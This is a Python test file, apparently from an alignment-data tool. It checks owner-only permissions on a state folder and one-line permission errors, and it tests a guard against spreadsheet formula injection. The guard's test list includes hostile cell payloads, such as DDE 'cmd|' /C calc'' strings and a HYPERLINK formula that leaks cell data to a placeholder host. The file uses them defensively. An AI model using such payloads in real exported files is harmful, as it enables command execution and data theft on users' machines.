"""The state folder is its owner's alone, and what may not be read or written is one clear sentence."""

from __future__ import annotations

import csv
import io
import os
import pwd
import re
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from alignment.errors import ConfigError, NotPermitted
from alignment.ingest.redact import redaction_key
from alignment.models.quoting import marks_secret
from alignment.store import migrate, query
from alignment.store.folder import keep_to_owner
from dashboard.components import no_formula
from flows import cli
from tests.conftest import ROOT

pytestmark = pytest.mark.fast


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(autouse=True)
def own_umask() -> Iterator[None]:
    before = os.umask(0o022)
    yield
    os.umask(before)


def test_a_new_state_folder_is_its_owners(tmp_path: Path) -> None:
    assert keep_to_owner(tmp_path / "var") == ""
    assert mode(tmp_path / "var") == 0o700
    migrate(tmp_path / "var")
    redaction_key(tmp_path / "var")
    marks_secret(tmp_path / "var")
    (tmp_path / "export").mkdir()
    (tmp_path / "export" / "train.jsonl").write_text("{}")
    assert {path.name for path in tmp_path.rglob("*") if mode(path) & 0o077} == set()


def test_a_wide_one_is_narrowed_and_that_is_told(tmp_path: Path) -> None:
    home = tmp_path / "var"
    home.mkdir(mode=0o755)
    (home / "redaction.key").write_bytes(b"k" * 32)
    assert "was open to other accounts (mode 755); it is 700 now" in keep_to_owner(home)
    assert (mode(home), mode(home / "redaction.key")) == (0o700, 0o600)
    assert keep_to_owner(home) == ""


def test_a_key_that_is_a_link_changes_nothing_elsewhere(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").write_text("x")
    (tmp_path / "elsewhere").chmod(0o644)
    (tmp_path / "var").mkdir()
    (tmp_path / "var" / "judge.key").symlink_to(tmp_path / "elsewhere")
    keep_to_owner(tmp_path / "var")
    assert mode(tmp_path / "elsewhere") == 0o644


def test_a_folder_for_other_things_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    monkeypatch.setenv("HOME", str(tmp_path))
    for home in (shared, Path("/"), tmp_path):
        with pytest.raises(ConfigError, match="a folder for other things too"):
            keep_to_owner(home)
    assert mode(shared) == 0o777 | stat.S_ISVTX
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigError, match="is a file"):
        keep_to_owner(tmp_path / "file")


@pytest.mark.parametrize(("uid", "said"), [(1, f"{pwd.getpwuid(1).pw_name}; run 'sudo -u "), (54321, r"uid 54321; run 'sudo -u \#54321 ")])
def test_root_leaves_the_folder_of_another_account_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uid: int, said: str) -> None:
    home = tmp_path / "var"
    home.mkdir(mode=0o755)
    own = os.stat_result((*home.stat()[:4], uid, *home.stat()[5:10]))
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    with monkeypatch.context() as patch:
        patch.setattr(Path, "stat", lambda _: own)
        with pytest.raises(NotPermitted, match=re.escape(f"belongs to {said}")):
            keep_to_owner(home)
    assert mode(home) == 0o755


@pytest.mark.parametrize("broken", ["mkdir", "chmod"])
def test_a_folder_that_cannot_be_used_is_one_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, broken: str) -> None:
    (tmp_path / "var").mkdir(mode=0o755)

    def refuse(path: Path, *_: object, **__: object) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(Path, broken, refuse)
    with pytest.raises(NotPermitted, match=r"cannot use '.*var': permission denied; let the account"):
        keep_to_owner(tmp_path / "var")


def test_a_store_that_may_not_be_opened_is_one_sentence(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    migrate(home)

    def refuse(path: object, *_: object, **__: object) -> int:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(os, "open", refuse)
    with pytest.raises(NotPermitted, match=r"cannot use the store in .*: Permission denied; let the account"):
        query(home, "SELECT 1")


@pytest.mark.parametrize("denied", ["mkdir", "open"])
def test_a_command_that_may_not_says_so_in_one_line(home: Path, monkeypatch: pytest.MonkeyPatch, denied: str) -> None:
    migrate(home)
    home.chmod(0o700)
    monkeypatch.setenv("ALIGN_HOME", str(home / "inner" if denied == "mkdir" else home))

    def refuse(path: object, *_: object, **__: object) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    with monkeypatch.context() as patch:
        patch.setattr(*((Path, "mkdir", refuse) if denied == "mkdir" else (os, "open", refuse)))
        done = CliRunner().invoke(cli.app, ["status"])
    assert done.exit_code == 1
    assert done.stderr.startswith("error: cannot use ")
    assert len(done.stderr.splitlines()) == 1


CELLS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", '"=1', "|calc", "%0A=1",
    "\uff1d1+1", "\uff0bcmd", "=HYPERLINK(\"http://x/?\"&A1)", "-cmd", "+49 171 1 or =1",
]  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_no_cell_of_a_table_is_a_formula(cell: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([no_formula(cell)])
    [[read]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert read == f"'{cell}"
    assert no_formula(no_formula(cell)).startswith("'")


@pytest.mark.parametrize(
    "cell", ["-1.1 [-7.1, +5.4]", "+2.5", "-3", "12:30", "76.1% → 20.4%", "-", "plain = text", "a@b", "+0.040 nats", "<EMAIL_1>"]
)
def test_figures_and_words_stay(cell: str) -> None:
    assert no_formula(cell) == cell


def test_the_tables_that_pages_draw_are_safe_to_download() -> None:
    from streamlit.testing.v1 import AppTest

    def page() -> None:
        from dashboard import components

        components.table([{"Prompt": "=cmd|' /C calc'!A0", "Change": "-1.1"}])

    drawn = AppTest.from_function(page).run()
    assert not drawn.exception
    downloaded = list(csv.reader(io.StringIO(drawn.dataframe[0].value.to_csv(index=False))))
    assert downloaded == [["Prompt", "Change"], ["'=cmd|' /C calc'!A0", "-1.1"]]


def test_only_one_place_draws_tables() -> None:
    pages = [path for path in (ROOT / "dashboard").rglob("*.py") if path.name != "components.py"]
    found = [path.name for path in pages for name in ("st.dataframe", "st.data_editor", "st.table") if name in path.read_text()]
    assert found == []
